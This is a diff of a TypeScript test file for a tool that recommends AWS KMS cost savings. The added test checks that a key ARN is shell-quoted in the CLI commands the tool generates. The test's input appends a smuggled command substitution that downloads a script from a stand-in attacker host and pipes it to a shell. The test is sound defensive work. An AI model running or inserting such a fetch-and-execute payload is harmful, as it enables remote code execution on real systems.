@@ -182,6 +182,14 @@ describe('recommendations', () => {
     expect(recommendations.items[0]?.apply.cli).toContain('--bucket <bucket>');
   });
 
+  it('quotes a key ARN in the commands it recommends, even one that got past the evidence checks', () => {
+    const hostile = `${key('a')}$(curl evil.example|sh)`;
+    const l = { keyArn: hostile, operation: 'Decrypt', requests: 20_000, price: '0.03' };
+    const { recommendations } = advise([l], [caller(l, roleArn('etl'), s3Object('logs'))]);
+    const cli = recommendations.items[0]?.apply.cli ?? '';
+    expect(cli.split('\n')[0]).toBe(`KEY='${hostile}'`);
+  });
+
   it('advises data key caching to a principal calling GenerateDataKey/Decrypt directly 1,000,000 times', () => {
     // 600,000 GenerateDataKey + 400,000 Decrypt at $0.03 = $3.00; caching saves 90%: $2.70.
     const gdk = { keyArn: key('a'), operation: 'GenerateDataKey', requests: 600_000, price: '0.03' };
